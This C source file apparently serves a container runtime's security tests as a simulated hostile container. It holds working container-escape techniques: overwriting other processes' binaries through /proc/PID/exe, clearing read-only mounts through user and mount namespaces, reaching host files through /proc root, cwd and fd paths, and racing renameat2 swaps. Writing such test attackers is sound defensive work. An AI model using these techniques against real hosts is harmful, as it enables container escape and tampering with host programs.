/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a hostile container does, for tests/security. Linked statically, so that it runs in any root:
 *
 *   attack rewrite FD            write to the file of FD, by every way there is; says "WRITTEN" if one worked
 *   attack scan SECONDS          the same to the program of every other process
 *   attack look MARKER SECONDS   look for the file MARKER of the host by way of every other process; "FOUND"
 *   attack look MARKER           the same until it is told to end (SIGTERM), and has met another process
 *   attack swap A B              exchange two names, for ever
 *   attack fds                   the numbers of the open descriptors
 *   attack getcwd                the current directory, as the kernel says
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void deny(const char *how)
{
	printf("%s: %s\n", how, strerror(errno));
}

static bool write_to(int fd, const char *how)
{
	if (fd < 0) {
		deny(how);
		return false;
	}
	if (pwrite(fd, "X", 1, 0) != 1) {
		deny(how);
		(void)close(fd);
		return false;
	}
	printf("WRITTEN: %s\n", how);
	(void)close(fd);
	return true;
}

static bool open_and_write(const char *path, const char *how)
{
	char text[128];

	(void)snprintf(text, sizeof(text), "%s, open %s", how, path);
	return write_to(open(path, O_WRONLY | O_CLOEXEC), text);
}

static void write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd >= 0 && write(fd, text, strlen(text)) < 0)
		deny(path);
	(void)close(fd);
}

/* Whoever is root of a mount namespace may change the attributes of mounts, if the kernel lets him. */
static bool rewrite_as_mount_owner(int fd, const char *path)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
	char maps[32];
	unsigned int uid = getuid();
	unsigned int gid = getgid();
	long tree;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
		deny("a user namespace");
		if (unshare(CLONE_NEWNS) < 0)
			deny("a mount namespace");
	} else {
		write_file("/proc/self/setgroups", "deny");
		(void)snprintf(maps, sizeof(maps), "0 %u 1", uid);
		write_file("/proc/self/uid_map", maps);
		(void)snprintf(maps, sizeof(maps), "0 %u 1", gid);
		write_file("/proc/self/gid_map", maps);
	}
	if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) < 0)
		deny("mount_setattr");
	if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) < 0)
		deny("remount");
	if (open_and_write(path, "mount attributes changed"))
		return true;
	tree = syscall(SYS_open_tree, fd, "", OPEN_TREE_CLONE | AT_EMPTY_PATH);
	if (tree < 0) {
		deny("open_tree");
	} else {
		char name[64];

		if (syscall(SYS_mount_setattr, (int)tree, "", AT_EMPTY_PATH, &attr, sizeof(attr)) <
		    0)
			deny("mount_setattr of a clone");
		(void)snprintf(name, sizeof(name), "/proc/self/fd/%ld", tree);
		if (open_and_write(name, "clone"))
			return true;
	}
	return false;
}

static bool rewrite(int fd)
{
	char path[64];
	int status = 0;
	pid_t pid;
	int i;

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	/* "Text file busy" ends when the process does that we have it from. */
	for (i = 0; i < 40; i++) {
		int wfd = open(path, O_WRONLY | O_CLOEXEC);

		if (wfd >= 0)
			return write_to(wfd, path);
		if (errno != ETXTBSY)
			break;
		usleep(25000);
	}
	deny(path);
	if (pwrite(fd, "X", 1, 0) == 1) {
		printf("WRITTEN: the descriptor itself\n");
		return true;
	}
	(void)fflush(stdout);
	pid = fork();
	if (pid == 0) {
		bool done = rewrite_as_mount_owner(fd, path);

		(void)fflush(stdout);
		_exit(done ? 1 : 0);
	}
	(void)waitpid(pid, &status, 0);
	return WIFEXITED(status) && WEXITSTATUS(status) == 1;
}

static time_t now(void)
{
	struct timespec ts;

	(void)clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec;
}

static bool same_file(const char *path, const struct stat *own)
{
	struct stat st;

	return stat(path, &st) == 0 && st.st_dev == own->st_dev && st.st_ino == own->st_ino;
}

/* The program of every process that runs neither this one nor the shell. */
static int scan(time_t seconds)
{
	time_t end = now() + seconds;
	struct stat own;
	struct stat shell;
	unsigned long seen = 0;

	if (stat("/proc/self/exe", &own) < 0 || stat("/bin/sh", &shell) < 0)
		return 1;
	while (now() < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			char path[300];
			int fd;

			if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
				continue;
			(void)snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
			if (!same_file(path, &own) && !same_file(path, &shell)) {
				seen++;
				if (rewrite(fd))
					return 0;
			}
			(void)close(fd);
		}
		if (proc)
			(void)closedir(proc);
	}
	printf("seen: %lu\n", seen);
	return 0;
}

static bool reaches(const char *dir, const char *marker)
{
	char path[1200];
	int fd;

	(void)snprintf(path, sizeof(path), "%s/../../../../../../../../../..%s", dir, marker);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		(void)snprintf(path, sizeof(path), "%s%s", dir, marker);
		fd = open(path, O_RDONLY | O_CLOEXEC);
	}
	if (fd < 0)
		return false;
	printf("FOUND: %s\n", path);
	(void)close(fd);
	return true;
}

static bool look_at_process(const char *pid, const char *marker)
{
	char path[600];
	struct dirent *entry;
	bool found;
	DIR *dir;

	(void)snprintf(path, sizeof(path), "/proc/%s/root", pid);
	found = reaches(path, marker);
	(void)snprintf(path, sizeof(path), "/proc/%s/cwd", pid);
	found |= reaches(path, marker);
	(void)snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	while (dir && (entry = readdir(dir))) {
		if (entry->d_name[0] == '.')
			continue;
		(void)snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, entry->d_name);
		found |= reaches(path, marker);
	}
	if (dir)
		(void)closedir(dir);
	return found;
}

static volatile sig_atomic_t is_told_to_end;

static void tell_to_end(int number)
{
	(void)number;
	is_told_to_end = 1;
}

/* With SECONDS less than 0: until it is told to end. */
static int look(const char *marker, time_t seconds)
{
	time_t end = now() + seconds;
	unsigned long others = 0;

	if (seconds < 0)
		(void)signal(SIGTERM, tell_to_end);

	do {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			if (entry->d_name[0] < '0' || entry->d_name[0] > '9' ||
			    strtol(entry->d_name, NULL, 10) == getpid())
				continue;
			others++;
			if (look_at_process(entry->d_name, marker))
				return 0;
		}
		if (proc)
			(void)closedir(proc);
	} while (seconds < 0 ? !is_told_to_end || others == 0 : now() < end);
	printf("nothing, by way of %s\n", others ? "others" : "nobody");
	return 0;
}

static int swap(const char *a, const char *b)
{
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0) {
			perror("renameat2");
			return 1;
		}
}

static int list_fds(void)
{
	for (int fd = 0; fd < 4096; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			printf("%d ", fd);
	printf("\n");
	return 0;
}

static int print_cwd(void)
{
	char cwd[4096];

	if (syscall(SYS_getcwd, cwd, sizeof(cwd)) < 0)
		return 1;
	printf("%s\n", cwd);
	return 0;
}

int main(int argc, char **argv)
{
	const char *command = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(command, "rewrite") == 0 && argc == 3)
		return rewrite((int)strtol(argv[2], NULL, 10)) ? 1 : 0;
	if (strcmp(command, "scan") == 0 && argc == 3)
		return scan(strtol(argv[2], NULL, 10));
	if (strcmp(command, "look") == 0 && (argc == 3 || argc == 4))
		return look(argv[2], argc == 4 ? strtol(argv[3], NULL, 10) : -1);
	if (strcmp(command, "swap") == 0 && argc == 4)
		return swap(argv[2], argv[3]);
	if (strcmp(command, "fds") == 0)
		return list_fds();
	if (strcmp(command, "getcwd") == 0)
		return print_cwd();
	(void)fprintf(stderr, "attack: what?\n");
	return 2;
}
